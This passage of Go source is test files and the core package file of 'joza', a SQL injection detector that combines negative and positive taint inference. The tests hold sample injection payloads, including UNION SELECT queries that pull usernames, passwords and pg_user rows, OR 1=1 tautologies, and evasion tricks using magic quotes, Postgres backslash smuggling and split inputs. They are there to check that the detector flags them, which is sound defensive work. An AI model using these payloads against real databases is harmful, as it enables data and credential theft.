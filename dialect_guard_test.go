package joza_test

import (
	"strings"
	"testing"

	"joza"
)

// TestWithDialectDefaultUnchanged pins the default-stays-MySQL guarantee:
// a guard built without WithDialect behaves bit-identically to one built
// with DialectMySQL.
func TestWithDialectDefaultUnchanged(t *testing.T) {
	plain := newGuard(t)
	explicit := newGuard(t, joza.WithDialect(joza.DialectMySQL))
	if plain.Dialect() != joza.DialectMySQL {
		t.Fatalf("default dialect = %v, want MySQL", plain.Dialect())
	}
	q := "SELECT * FROM records WHERE ID=5 LIMIT 5"
	in := []joza.Input{{Source: "get", Name: "id", Value: "5"}}
	if a, b := plain.Check(q, in), explicit.Check(q, in); a.Attack != b.Attack {
		t.Errorf("default and explicit-MySQL guards disagree: %v vs %v", a.Attack, b.Attack)
	}
}

// TestPostgresGuardCatchesBackslashSmuggle drives the syntax-confusion
// evasion end to end through the public API. The application escapes the
// attacker's quote with a backslash (MySQL-style addslashes); under
// standard_conforming_strings a Postgres server treats the backslash as a
// literal character, so the attacker's quote CLOSES the string and the
// payload goes live — a boundary only the Postgres-dialect guard draws
// correctly.
func TestPostgresGuardCatchesBackslashSmuggle(t *testing.T) {
	// String-context app: the attacker's value lands between quotes the
	// application's own fragments supply.
	const src = `<?php
$name = $_GET['name'];
$query = "SELECT * FROM records WHERE name='$name' LIMIT 5";
$result = pg_query($query);
`
	payload := `a' UNION SELECT usename FROM pg_user -- `
	escaped := strings.ReplaceAll(payload, `'`, `\'`)
	q := "SELECT * FROM records WHERE name='" + escaped + "' LIMIT 5"
	in := []joza.Input{{Source: "get", Name: "name", Value: payload}}

	frags := joza.FragmentsFromSource(src)
	my, err := joza.New(joza.WithFragments(frags))
	if err != nil {
		t.Fatal(err)
	}
	pg, err := joza.New(joza.WithFragments(frags), joza.WithDialect(joza.DialectPostgres))
	if err != nil {
		t.Fatal(err)
	}

	if v := my.Check(q, in); v.Attack {
		t.Errorf("MySQL-dialect guard flagged the smuggle (expected miss: the payload hides inside one string): %+v", v.DetectedBy())
	}
	if v := pg.Check(q, in); !v.Attack {
		t.Error("Postgres-dialect guard missed the backslash smuggle")
	}
}

// TestPostgresGuardBenignTraffic guards against dialect-induced false
// positives: idiomatic Postgres queries must stay clean under the
// Postgres-dialect guard.
func TestPostgresGuardBenignTraffic(t *testing.T) {
	pg := newGuard(t, joza.WithDialect(joza.DialectPostgres))
	for _, q := range []string{
		"SELECT * FROM records WHERE ID=5 LIMIT 5",
		"SELECT * FROM records WHERE ID=$1 LIMIT 5",
	} {
		if v := pg.Check(q, []joza.Input{{Source: "get", Name: "id", Value: "5"}}); v.Attack {
			t.Errorf("benign Postgres query flagged: %q (%v)", q, v.DetectedBy())
		}
	}
}

// TestWithDialectValidation pins configuration-error handling: invalid
// dialect values and cross-dialect profile stores must fail construction,
// not silently misanalyze.
func TestWithDialectValidation(t *testing.T) {
	if _, err := joza.New(joza.WithDialect(joza.Dialect(99)),
		joza.WithFragments(joza.FragmentsFromSource(demoSource))); err == nil {
		t.Error("New accepted an invalid dialect")
	}

	// A MySQL-trained profile store must be rejected by a Postgres guard.
	rec := joza.NewProfileRecorder()
	rec.Record("site", "SELECT 1")
	if _, err := joza.New(
		joza.WithDialect(joza.DialectPostgres),
		joza.WithFragments(joza.FragmentsFromSource(demoSource)),
		joza.WithProfileStore(rec.Store()),
	); err == nil || !strings.Contains(err.Error(), "dialect") {
		t.Errorf("cross-dialect profile store accepted (err = %v)", err)
	}

	// A recorder of the wrong dialect must be rejected too.
	if _, err := joza.New(
		joza.WithDialect(joza.DialectPostgres),
		joza.WithFragments(joza.FragmentsFromSource(demoSource)),
		joza.WithProfileLearning(joza.NewProfileRecorder()),
	); err == nil || !strings.Contains(err.Error(), "dialect") {
		t.Errorf("cross-dialect recorder accepted (err = %v)", err)
	}

	// Matched dialects construct fine.
	if _, err := joza.New(
		joza.WithDialect(joza.DialectPostgres),
		joza.WithFragments(joza.FragmentsFromSource(demoSource)),
		joza.WithProfileLearning(joza.NewProfileRecorderDialect(joza.DialectPostgres)),
	); err != nil {
		t.Errorf("matched-dialect learning guard failed: %v", err)
	}
}

// TestParseDialectReExport sanity-checks the flag-plumbing helper.
func TestParseDialectReExport(t *testing.T) {
	d, err := joza.ParseDialect("pg")
	if err != nil || d != joza.DialectPostgres {
		t.Errorf("ParseDialect(pg) = %v, %v", d, err)
	}
	if _, err := joza.ParseDialect("oracle"); err == nil {
		t.Error("ParseDialect accepted oracle")
	}
}
