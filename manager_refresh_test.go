package joza_test

import (
	"fmt"
	"os"
	"path/filepath"
	"sync"
	"testing"

	"joza"
)

const refreshSrc = `<?php
$q = "SELECT * FROM records WHERE ID=$id LIMIT 5";`

// TestRefreshRetriesFailedRebuild is the regression test for the
// lost-refresh bug: the installer used to advance its file snapshot before
// the Guard rebuild ran, so a failed rebuild left the old Guard serving
// stale fragments and every later Refresh reported changed=false. The
// pending change must stay sticky until a rebuild succeeds.
func TestRefreshRetriesFailedRebuild(t *testing.T) {
	dir := t.TempDir()
	file := filepath.Join(dir, "app.php")
	if err := os.WriteFile(file, []byte(refreshSrc), 0o644); err != nil {
		t.Fatal(err)
	}
	m, err := joza.NewManager(dir, nil)
	if err != nil {
		t.Fatal(err)
	}
	oldGuard := m.Guard()
	if oldGuard.FragmentCount() == 0 {
		t.Fatal("initial guard has no fragments")
	}

	// Break the tree: no SQL-bearing fragments left, so the rebuild fails
	// with ErrNoFragments while the installer still sees a change.
	if err := os.WriteFile(file, []byte(`<?php $x = 1;`), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := m.Refresh(); err == nil {
		t.Fatal("Refresh must surface the rebuild failure")
	}
	if m.Guard() != oldGuard {
		t.Fatal("failed rebuild must keep the old guard in service")
	}

	// No further tree change: the pending rebuild must be retried (and
	// fail again), not silently dropped with changed=false.
	if changed, err := m.Refresh(); err == nil {
		t.Fatalf("pending rebuild was dropped: changed=%v, err=nil", changed)
	}

	// Fix the tree: the next Refresh must succeed and swap the Guard.
	if err := os.WriteFile(file, []byte(refreshSrc+"\n"+`$q2 = "SELECT name FROM users WHERE uid=";`), 0o644); err != nil {
		t.Fatal(err)
	}
	changed, err := m.Refresh()
	if err != nil {
		t.Fatalf("recovery refresh failed: %v", err)
	}
	if !changed {
		t.Fatal("recovery refresh must report a swap")
	}
	if m.Guard() == oldGuard {
		t.Fatal("guard not swapped after recovery")
	}
	if m.Guard().FragmentCount() == 0 {
		t.Fatal("recovered guard has no fragments")
	}
}

// TestRefreshPendingStickyWithoutTreeChange drives the exact lost-update
// interleaving: break, fail, restore the original content (digest differs
// from the broken snapshot, so this is the "next call" the issue names),
// and verify the rebuild is retried and succeeds.
func TestRefreshPendingStickyWithoutTreeChange(t *testing.T) {
	dir := t.TempDir()
	file := filepath.Join(dir, "app.php")
	if err := os.WriteFile(file, []byte(refreshSrc), 0o644); err != nil {
		t.Fatal(err)
	}
	m, err := joza.NewManager(dir, nil)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Remove(file); err != nil {
		t.Fatal(err)
	}
	if _, err := m.Refresh(); err == nil {
		t.Fatal("empty tree must fail the rebuild")
	}
	if err := os.WriteFile(file, []byte(refreshSrc), 0o644); err != nil {
		t.Fatal(err)
	}
	changed, err := m.Refresh()
	if err != nil || !changed {
		t.Fatalf("Refresh after restore = (%v, %v), want (true, nil)", changed, err)
	}
	// Steady state again.
	if changed, err := m.Refresh(); err != nil || changed {
		t.Fatalf("steady-state Refresh = (%v, %v), want (false, nil)", changed, err)
	}
}

// TestConcurrentCheckAndRefresh drives parallel Guard.Check traffic
// against concurrent Manager.Refresh swaps and sharded-cache churn; run
// with -race it proves the hot path is data-race free across guard swaps.
func TestConcurrentCheckAndRefresh(t *testing.T) {
	dir := t.TempDir()
	file := filepath.Join(dir, "app.php")
	if err := os.WriteFile(file, []byte(refreshSrc), 0o644); err != nil {
		t.Fatal(err)
	}
	// Tiny cache capacity keeps the shards evicting and promoting under
	// contention.
	m, err := joza.NewManager(dir, nil, joza.WithCacheMode(joza.CacheQueryAndStructure, 64))
	if err != nil {
		t.Fatal(err)
	}
	const (
		workers = 8
		iters   = 300
	)
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(seed int) {
			defer wg.Done()
			for i := 0; i < iters; i++ {
				id := (seed*31 + i) % 200
				q := fmt.Sprintf("SELECT * FROM records WHERE ID=%d LIMIT 5", id)
				in := []joza.Input{{Source: "get", Name: "id", Value: fmt.Sprint(id)}}
				if m.Guard().Check(q, in).Attack {
					t.Errorf("benign flagged: %s", q)
					return
				}
				if i%50 == seed%50 {
					atk := fmt.Sprintf("SELECT * FROM records WHERE ID=-1 OR %d=%d LIMIT 5", id, id)
					payload := fmt.Sprintf("-1 OR %d=%d", id, id)
					if !m.Guard().Check(atk, []joza.Input{{Source: "get", Name: "id", Value: payload}}).Attack {
						t.Errorf("attack missed: %s", atk)
						return
					}
				}
			}
		}(w)
	}
	// Refresher: alternate the source file to force real rebuild swaps
	// while checks are in flight.
	wg.Add(1)
	go func() {
		defer wg.Done()
		for i := 0; i < 40; i++ {
			extra := ""
			if i%2 == 1 {
				extra = "\n$q2 = \"SELECT name FROM users WHERE uid=\";"
			}
			if err := os.WriteFile(file, []byte(refreshSrc+extra), 0o644); err != nil {
				t.Error(err)
				return
			}
			if _, err := m.Refresh(); err != nil {
				t.Errorf("refresh: %v", err)
				return
			}
		}
	}()
	wg.Wait()
	snap := m.Metrics()
	if snap.Checks == 0 {
		t.Error("metrics recorded no checks")
	}
}
