package joza_test

import (
	"errors"
	"strings"
	"testing"

	"joza"
)

const demoSource = `<?php
$postid = $_GET['id'];
$query = "SELECT * FROM records WHERE ID=$postid LIMIT 5";
$result = mysql_query($query);
`

func newGuard(t *testing.T, opts ...joza.Option) *joza.Guard {
	t.Helper()
	base := []joza.Option{joza.WithFragments(joza.FragmentsFromSource(demoSource))}
	g, err := joza.New(append(base, opts...)...)
	if err != nil {
		t.Fatal(err)
	}
	return g
}

func TestBenignQuerySafe(t *testing.T) {
	g := newGuard(t)
	v := g.Check("SELECT * FROM records WHERE ID=5 LIMIT 5",
		[]joza.Input{{Source: "get", Name: "id", Value: "5"}})
	if v.Attack {
		t.Errorf("benign query flagged: NTI=%v PTI=%v", v.NTI.Reasons, v.PTI.Reasons)
	}
	if err := g.Authorize("SELECT * FROM records WHERE ID=5 LIMIT 5", nil); err != nil {
		t.Errorf("Authorize: %v", err)
	}
}

func TestAttackDetectedByBoth(t *testing.T) {
	g := newGuard(t)
	payload := "-1 UNION SELECT username, password FROM users"
	q := "SELECT * FROM records WHERE ID=" + payload + " LIMIT 5"
	v := g.Check(q, []joza.Input{{Source: "get", Name: "id", Value: payload}})
	if !v.Attack {
		t.Fatal("attack missed")
	}
	by := v.DetectedBy()
	if len(by) != 2 {
		t.Errorf("DetectedBy = %v, want both analyzers", by)
	}
}

func TestNTIEvasionCaughtByPTI(t *testing.T) {
	// Payload inflated by magic quotes beyond the NTI threshold; the
	// comment block is not a program fragment so PTI flags it.
	g := newGuard(t)
	rawPayload := `-1 OR 1=1 /*''''''''*/`
	transformed := strings.ReplaceAll(rawPayload, `'`, `\'`)
	q := "SELECT * FROM records WHERE ID=" + transformed + " LIMIT 5"
	v := g.Check(q, []joza.Input{{Source: "get", Name: "id", Value: rawPayload}})
	if v.NTI.Attack {
		t.Error("NTI unexpectedly caught the evasion (threshold must be exceeded)")
	}
	if !v.PTI.Attack {
		t.Error("PTI must catch the NTI evasion")
	}
	if !v.Attack {
		t.Error("hybrid verdict must be attack")
	}
}

func TestPTIEvasionCaughtByNTI(t *testing.T) {
	// The application's own vocabulary contains OR and =, so a tautology
	// rebuilt from fragments evades PTI — but it appears verbatim in the
	// query, so NTI flags it.
	src := demoSource + `
$cond = " OR ";
$eq = "=";
$one = "1";
`
	g, err := joza.New(joza.WithFragments(joza.FragmentsFromSource(src)))
	if err != nil {
		t.Fatal(err)
	}
	payload := "1 OR 1=1"
	q := "SELECT * FROM records WHERE ID=" + payload + " LIMIT 5"
	v := g.Check(q, []joza.Input{{Source: "get", Name: "id", Value: payload}})
	if v.PTI.Attack {
		t.Errorf("PTI unexpectedly caught vocabulary attack: %v", v.PTI.Reasons)
	}
	if !v.NTI.Attack {
		t.Error("NTI must catch the PTI evasion")
	}
	if !v.Attack {
		t.Error("hybrid verdict must be attack")
	}
}

func TestAuthorizePolicies(t *testing.T) {
	g := newGuard(t, joza.WithPolicy(joza.PolicyErrorVirtualize))
	payload := "-1 OR 1=1"
	q := "SELECT * FROM records WHERE ID=" + payload
	err := g.Authorize(q, []joza.Input{{Source: "get", Name: "id", Value: payload}})
	if err == nil {
		t.Fatal("Authorize allowed an attack")
	}
	var ae *joza.AttackError
	if !errors.As(err, &ae) {
		t.Fatalf("error type %T", err)
	}
	if ae.Policy != joza.PolicyErrorVirtualize {
		t.Errorf("policy = %v", ae.Policy)
	}
	if g.Policy() != joza.PolicyErrorVirtualize {
		t.Error("Policy() accessor")
	}
}

func TestNewRequiresFragments(t *testing.T) {
	if _, err := joza.New(); !errors.Is(err, joza.ErrNoFragments) {
		t.Errorf("err = %v, want ErrNoFragments", err)
	}
	if _, err := joza.New(joza.WithoutPTI(), joza.WithoutNTI()); err == nil {
		t.Error("both analyzers disabled must error")
	}
	if _, err := joza.New(joza.WithoutPTI()); err != nil {
		t.Errorf("NTI-only guard: %v", err)
	}
}

func TestAnalyzerIsolation(t *testing.T) {
	payload := "-1 OR 1=1"
	q := "SELECT * FROM records WHERE ID=" + payload + " LIMIT 5"
	in := []joza.Input{{Source: "get", Name: "id", Value: payload}}

	ntiOnly, err := joza.New(joza.WithoutPTI())
	if err != nil {
		t.Fatal(err)
	}
	v := ntiOnly.Check(q, in)
	if !v.NTI.Attack || v.PTI.Attack {
		t.Errorf("NTI-only: %+v", v.DetectedBy())
	}

	ptiOnly := newGuard(t, joza.WithoutNTI())
	v = ptiOnly.Check(q, in)
	if !v.PTI.Attack || v.NTI.Attack {
		t.Errorf("PTI-only: %+v", v.DetectedBy())
	}
}

func TestFragmentHelpers(t *testing.T) {
	g := newGuard(t)
	if g.FragmentCount() == 0 {
		t.Error("FragmentCount = 0")
	}
	sample := g.SampleFragments(1)
	if len(sample) != 1 || !strings.Contains(sample[0], "SELECT") {
		t.Errorf("sample = %v", sample)
	}
}

func TestFragmentsFromDirError(t *testing.T) {
	if _, err := joza.FragmentsFromDir("/nonexistent-joza-dir"); err == nil {
		t.Error("want error for missing dir")
	}
}

func TestCacheStats(t *testing.T) {
	g := newGuard(t, joza.WithCacheMode(joza.CacheQuery, 16))
	q := "SELECT * FROM records WHERE ID=5 LIMIT 5"
	g.Check(q, nil)
	g.Check(q, nil)
	if st := g.PTICacheStats(); st.QueryHits != 1 {
		t.Errorf("stats = %+v", st)
	}
	ntiOnly, _ := joza.New(joza.WithoutPTI())
	if st := ntiOnly.PTICacheStats(); st.QueryHits != 0 || st.Misses != 0 {
		t.Errorf("NTI-only stats = %+v", st)
	}
}

func TestRenderVerdict(t *testing.T) {
	g := newGuard(t)
	payload := "-1 OR 1=1"
	q := "SELECT * FROM records WHERE ID=" + payload + " LIMIT 5"
	v := g.Check(q, []joza.Input{{Source: "get", Name: "id", Value: payload}})
	out := joza.RenderVerdict(v)
	lines := strings.Split(out, "\n")
	if len(lines) < 3 || lines[0] != q {
		t.Fatalf("render = %q", out)
	}
	orPos := strings.Index(q, "OR")
	if lines[1][orPos] != '-' {
		t.Errorf("OR not rendered as negatively tainted: %q", lines[1])
	}
	if lines[2][orPos] != 'c' {
		t.Errorf("OR not rendered critical: %q", lines[2])
	}
}

func TestSecondOrderAttack(t *testing.T) {
	// The payload arrives from storage, not from this request's inputs:
	// NTI misses, PTI catches — the hybrid still blocks.
	g := newGuard(t)
	q := "SELECT * FROM records WHERE ID=1 OR 1=1 -- LIMIT 5"
	v := g.Check(q, []joza.Input{{Source: "get", Name: "page", Value: "home"}})
	if v.NTI.Attack {
		t.Error("NTI should miss second-order attacks")
	}
	if !v.Attack || !v.PTI.Attack {
		t.Error("PTI must catch the second-order attack")
	}
}

func TestMixedSourcePayloadConstruction(t *testing.T) {
	// Payload assembled from multiple harmless-looking inputs: NTI cannot
	// combine markings; PTI flags the foreign tokens.
	g := newGuard(t)
	q := "SELECT * FROM records WHERE ID=1 OR TRUE LIMIT 5"
	v := g.Check(q, []joza.Input{
		{Source: "get", Name: "q1", Value: "1 OR 1=1"},
		{Source: "get", Name: "q2", Value: "R TR"},
		{Source: "get", Name: "q3", Value: "UE"},
	})
	if !v.Attack {
		t.Error("payload-construction attack must be blocked by the hybrid")
	}
	if !v.PTI.Attack {
		t.Error("PTI must flag OR/TRUE as untrusted")
	}
}
