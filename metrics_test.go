package joza_test

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"joza"
)

func metricsGuard(t *testing.T, opts ...joza.Option) *joza.Guard {
	t.Helper()
	base := []joza.Option{joza.WithFragments(joza.FragmentsFromSource(`<?php
$q = "SELECT * FROM records WHERE ID=$id LIMIT 5";`))}
	g, err := joza.New(append(base, opts...)...)
	if err != nil {
		t.Fatal(err)
	}
	return g
}

func TestGuardMetricsCounts(t *testing.T) {
	g := metricsGuard(t)
	benign := "SELECT * FROM records WHERE ID=5 LIMIT 5"
	in := []joza.Input{{Source: "get", Name: "id", Value: "5"}}
	for i := 0; i < 3; i++ {
		if g.Check(benign, in).Attack {
			t.Fatal("benign flagged")
		}
	}
	attack := "SELECT * FROM records WHERE ID=-1 OR 1=1 LIMIT 5"
	atkIn := []joza.Input{{Source: "get", Name: "id", Value: "-1 OR 1=1"}}
	if !g.Check(attack, atkIn).Attack {
		t.Fatal("attack missed")
	}
	snap := g.Metrics()
	if snap.Checks != 4 {
		t.Errorf("checks = %d, want 4", snap.Checks)
	}
	if snap.Attacks != 1 || snap.NTIAttacks != 1 || snap.PTIAttacks != 1 {
		t.Errorf("attacks = %d/%d/%d, want 1/1/1", snap.Attacks, snap.NTIAttacks, snap.PTIAttacks)
	}
	// Second and third benign checks hit the query cache.
	if snap.CacheQueryHits < 2 {
		t.Errorf("cache query hits = %d, want >= 2", snap.CacheQueryHits)
	}
	if len(snap.CacheShards) == 0 {
		t.Error("no cache shard stats")
	}
	var shardHits uint64
	for _, sh := range snap.CacheShards {
		shardHits += sh.Hits
	}
	if shardHits < snap.CacheQueryHits {
		t.Errorf("shard hits %d < aggregate query hits %d", shardHits, snap.CacheQueryHits)
	}
	if snap.LatencyP50Ns == 0 || snap.LatencyP99Ns == 0 || snap.LatencyP99Ns < snap.LatencyP50Ns {
		t.Errorf("latency quantiles p50=%d p99=%d", snap.LatencyP50Ns, snap.LatencyP99Ns)
	}
}

func TestGuardMetricsJSONRoundTrip(t *testing.T) {
	g := metricsGuard(t)
	g.Check("SELECT * FROM records WHERE ID=5 LIMIT 5", nil)
	data, err := json.Marshal(g.Metrics())
	if err != nil {
		t.Fatal(err)
	}
	var back joza.Metrics
	if err := json.Unmarshal(data, &back); err != nil {
		t.Fatal(err)
	}
	if back.Checks != 1 {
		t.Errorf("round-tripped checks = %d", back.Checks)
	}
}

func TestGuardMetricsDisabledAnalyzers(t *testing.T) {
	g, err := joza.New(joza.WithoutPTI())
	if err != nil {
		t.Fatal(err)
	}
	g.Check("SELECT 1", []joza.Input{{Source: "get", Name: "q", Value: "zzz"}})
	snap := g.Metrics()
	if snap.Checks != 1 {
		t.Errorf("checks = %d", snap.Checks)
	}
	if snap.CacheShards != nil {
		t.Error("PTI-less guard must not report cache shards")
	}
}

func TestManagerMetricsSurviveRebuild(t *testing.T) {
	dir := t.TempDir()
	writeApp := func(body string) {
		t.Helper()
		if err := os.WriteFile(filepath.Join(dir, "app.php"), []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	writeApp(refreshSrc)
	m, err := joza.NewManager(dir, nil)
	if err != nil {
		t.Fatal(err)
	}
	q := "SELECT * FROM records WHERE ID=5 LIMIT 5"
	m.Guard().Check(q, nil)
	m.Guard().Check(q, nil)
	writeApp(refreshSrc + "\n" + `$q2 = "SELECT name FROM users WHERE uid=";`)
	if changed, err := m.Refresh(); err != nil || !changed {
		t.Fatalf("refresh = (%v, %v)", changed, err)
	}
	m.Guard().Check(q, nil)
	if got := m.Metrics().Checks; got != 3 {
		t.Errorf("checks after rebuild = %d, want 3 (counters must survive the swap)", got)
	}
}

func TestAuditRecordEmptyArraysNotNull(t *testing.T) {
	// JSON-lines consumers index into detectedBy/reasons; absent values
	// must encode as [] rather than null.
	var buf bytes.Buffer
	g := metricsGuard(t, joza.WithAuditLog(&buf))
	if !g.Check("SELECT * FROM records WHERE ID=-1 OR 1=1 LIMIT 5",
		[]joza.Input{{Source: "get", Name: "id", Value: "-1 OR 1=1"}}).Attack {
		t.Fatal("attack missed")
	}
	line := strings.TrimSpace(buf.String())
	var raw map[string]json.RawMessage
	if err := json.Unmarshal([]byte(line), &raw); err != nil {
		t.Fatalf("audit line not JSON: %v", err)
	}
	for _, field := range []string{"detectedBy", "reasons"} {
		v, ok := raw[field]
		if !ok {
			t.Errorf("field %q missing: %s", field, line)
			continue
		}
		if string(v) == "null" {
			t.Errorf("field %q encoded as null", field)
		}
		var arr []string
		if err := json.Unmarshal(v, &arr); err != nil {
			t.Errorf("field %q is not an array: %s", field, v)
		}
	}
}
