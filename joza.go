// Package joza is a hybrid taint-inference defense against SQL injection,
// reproducing the system described in "Joza: Hybrid Taint Inference for
// Defeating Web Application SQL Injection Attacks" (DSN 2015).
//
// Joza decides whether a SQL query issued by an application is an injection
// attack by combining two complementary inference techniques:
//
//   - Negative taint inference (NTI) correlates the raw inputs of the
//     current request with the query using approximate string matching.
//     A critical SQL token (keyword, function, operator, delimiter or
//     comment) that derives from an input indicates an attack.
//   - Positive taint inference (PTI) trusts only the string fragments
//     extracted from the application's own source code. A critical token
//     not fully contained in a single trusted fragment indicates an attack.
//
// A query is safe if and only if both analyses deem it safe. Attacks
// crafted to evade NTI (via application-side transformations such as magic
// quotes or whitespace trimming) are caught by PTI, and attacks crafted to
// evade PTI (short payloads rebuilt from the application's own fragment
// vocabulary) are caught by NTI.
//
// # Quick start
//
//	frags, _ := joza.FragmentsFromDir("/var/www/app")
//	guard, _ := joza.New(joza.WithFragments(frags))
//	verdict := guard.Check(query, []joza.Input{
//		{Source: "get", Name: "id", Value: rawID},
//	})
//	if verdict.Attack {
//		// block the query
//	}
//
// Use Guard.Authorize to get policy-aware error behaviour instead of a raw
// verdict.
package joza

import (
	"context"
	"errors"
	"fmt"
	"io"
	"time"

	"joza/internal/audit"
	"joza/internal/core"
	"joza/internal/engine"
	"joza/internal/fragments"
	"joza/internal/metrics"
	"joza/internal/nti"
	"joza/internal/obs"
	"joza/internal/phpsrc"
	"joza/internal/profile"
	"joza/internal/pti"
	"joza/internal/sqltoken"
	"joza/internal/trace"
)

// Re-exported types so callers need only import package joza.
type (
	// Input is one captured application input (source, name, raw value).
	Input = nti.Input
	// Verdict is the hybrid decision for one query.
	Verdict = core.Verdict
	// Result is the outcome of a single analyzer.
	Result = core.Result
	// Marking is one taint annotation over a query span.
	Marking = core.Marking
	// Reason explains why an analyzer flagged a query.
	Reason = core.Reason
	// Policy selects attack-recovery behaviour.
	Policy = core.Policy
	// AttackError is returned by Authorize when a query is blocked.
	AttackError = core.AttackError
	// CacheMode selects the PTI caching configuration.
	CacheMode = pti.CacheMode
	// Metrics is a point-in-time snapshot of a Guard's counters: checks,
	// attacks per analyzer, PTI cache activity (totals and per shard),
	// NTI matcher activity and check-latency quantiles. The same type is
	// served by the PTI daemon's "stats" verb (with per-op wire counters
	// filled in) and returned by RemoteGuard.Metrics (which also counts
	// checks degraded by a daemon outage).
	Metrics = metrics.Snapshot
	// CacheShardMetrics is the activity of one PTI cache shard.
	CacheShardMetrics = metrics.CacheShard
	// Trace is the recorded evidence of one sampled check: per-stage
	// durations plus the matched inputs, covering fragments and uncovered
	// tokens behind the verdict.
	Trace = trace.Span
	// TraceDump is the queryable view of a Guard's recent and notable
	// traces, as returned by Guard.Traces and served at /traces.
	TraceDump = trace.Dump
	// ProfileStore is an immutable per-call-site query-skeleton profile,
	// the enforcement side of the optional third analyzer stage. Build one
	// from a learning run (ProfileRecorder.Store) or load a serialized one
	// with LoadProfiles.
	ProfileStore = profile.Store
	// ProfileRecorder accumulates query-skeleton profiles during a
	// learning run; safe for concurrent use.
	ProfileRecorder = profile.Recorder
	// Dialect selects the SQL dialect the Guard tokenizes under: quote
	// semantics, string escape mode, placeholder syntax and comment rules
	// all differ across databases, and lexing traffic under the wrong
	// dialect mis-draws the string/code boundary attackers exploit. The
	// zero value is DialectMySQL.
	Dialect = sqltoken.Dialect
)

// SQL dialects, re-exported.
const (
	// DialectMySQL is the default: backslash string escapes, `#` comments,
	// backtick-quoted identifiers, `?` and `:name` placeholders.
	DialectMySQL = sqltoken.MySQL
	// DialectPostgres: `"` quotes identifiers, backslash is literal inside
	// '…' (E'…' re-enables it), $$…$$ dollar quoting, $1 placeholders,
	// nested block comments, `#` is an operator.
	DialectPostgres = sqltoken.Postgres
	// DialectSQLite: `"` and backtick both quote identifiers, no backslash
	// escapes, `?`/`?NNN`/`:name`/`@name`/`$name` placeholders.
	DialectSQLite = sqltoken.SQLite
)

// ParseDialect maps a configuration string ("mysql", "postgres", "pg",
// "sqlite", …) to its Dialect, for flag and config-file plumbing.
func ParseDialect(s string) (Dialect, error) { return sqltoken.ParseDialect(s) }

// NewProfileRecorder returns an empty profile recorder for a learning run.
func NewProfileRecorder() *ProfileRecorder { return profile.NewRecorder() }

// LoadProfiles reads a serialized profile store from path.
func LoadProfiles(path string) (*ProfileStore, error) { return profile.Load(path) }

// ParseProfiles parses a serialized profile store.
func ParseProfiles(data []byte) (*ProfileStore, error) { return profile.Parse(data) }

// NewProfileRecorderDialect returns an empty profile recorder computing
// skeletons under dialect d; pass it to a learning Guard built with the
// same WithDialect.
func NewProfileRecorderDialect(d Dialect) *ProfileRecorder {
	return profile.NewRecorderDialect(d)
}

// QuerySkeleton returns the normalized query skeleton the profile stage
// keys on: literal-, whitespace- and case-insensitive token structure,
// tokenized under the MySQL dialect.
func QuerySkeleton(query string) string { return profile.Skeleton(query) }

// QuerySkeletonDialect is QuerySkeleton tokenized under dialect d.
// Skeletons from different dialects are not comparable.
func QuerySkeletonDialect(d Dialect, query string) string {
	return profile.SkeletonDialect(d, query)
}

// Recovery policies and cache modes, re-exported.
const (
	// PolicyTerminate aborts the request on attack (the Joza default).
	PolicyTerminate = core.PolicyTerminate
	// PolicyErrorVirtualize makes the blocked query look like a database
	// error, relying on the application's error handling.
	PolicyErrorVirtualize = core.PolicyErrorVirtualize

	// CacheNone disables PTI caching.
	CacheNone = pti.CacheNone
	// CacheQuery caches PTI verdicts per exact query string.
	CacheQuery = pti.CacheQuery
	// CacheQueryAndStructure also caches per query-structure skeleton.
	CacheQueryAndStructure = pti.CacheQueryAndStructure
)

// Guard is the hybrid detector: a thin front door over the shared
// internal/engine pipeline. A Guard is safe for concurrent use; its
// analysis state lives in an immutable engine.Snapshot that refreshes
// (Manager, jozad -watch) swap atomically without locking the Check hot
// path.
type Guard struct {
	eng       *engine.Engine
	policy    core.Policy
	dialect   sqltoken.Dialect
	obsServer *obs.Server
	audit     *audit.Logger
	// buildSnap rebuilds the analysis snapshot over a new fragment set
	// using the Guard's original configuration; the Manager drives it on
	// Refresh.
	buildSnap func(set *fragments.Set) (*engine.Snapshot, error)
}

type config struct {
	fragmentTexts []string
	set           *fragments.Set
	threshold     float64
	cacheMode     pti.CacheMode
	cacheCapacity int
	policy        core.Policy
	ptiOptions    []pti.Option
	ntiOptions    []nti.Option
	disableNTI    bool
	disablePTI    bool
	auditWriter   io.Writer
	auditAsync    bool
	auditDepth    int
	obs           *ObservabilityConfig
	failMode      engine.FailureMode
	budgets       Budgets
	dialect       sqltoken.Dialect

	profileStore    *profile.Store
	profilePath     string
	profileRecorder *profile.Recorder
	profileStrict   bool
}

// Option configures a Guard.
type Option func(*config)

// WithFragments supplies the trusted fragment texts (string literals
// extracted from the application). Fragments without SQL tokens are
// dropped automatically.
func WithFragments(texts []string) Option {
	return func(c *config) { c.fragmentTexts = append(c.fragmentTexts, texts...) }
}

// WithFragmentSet supplies a prebuilt fragment set, overriding
// WithFragments.
func WithFragmentSet(set *fragments.Set) Option {
	return func(c *config) { c.set = set }
}

// WithDialect sets the SQL dialect the Guard tokenizes under (default
// DialectMySQL, preserving pre-dialect behavior exactly). The dialect
// threads through every layer that consumes tokens — NTI and PTI lexing,
// the PTI cache keys, fragment-set filtering and the profile skeletons —
// so a guard fronting a Postgres database draws the same string/code
// boundary the database will. A profile store supplied via
// WithProfileStore/WithProfileFile must have been trained under the same
// dialect; New (and every Manager.Refresh rebuild) fails on a mismatch.
func WithDialect(d Dialect) Option {
	return func(c *config) { c.dialect = d }
}

// WithNTIThreshold sets the NTI difference-ratio threshold (default 0.20).
func WithNTIThreshold(t float64) Option {
	return func(c *config) { c.threshold = t }
}

// WithCacheMode selects the PTI cache configuration (default
// CacheQueryAndStructure) and capacity (default 4096 entries per cache).
func WithCacheMode(mode CacheMode, capacity int) Option {
	return func(c *config) {
		c.cacheMode = mode
		c.cacheCapacity = capacity
	}
}

// WithPolicy sets the recovery policy used by Authorize.
func WithPolicy(p Policy) Option {
	return func(c *config) { c.policy = p }
}

// WithPTIOptions forwards extra options to the PTI analyzer (ablation
// switches such as the naive matcher).
func WithPTIOptions(opts ...pti.Option) Option {
	return func(c *config) { c.ptiOptions = append(c.ptiOptions, opts...) }
}

// WithNTIOptions forwards extra options to the NTI analyzer.
func WithNTIOptions(opts ...nti.Option) Option {
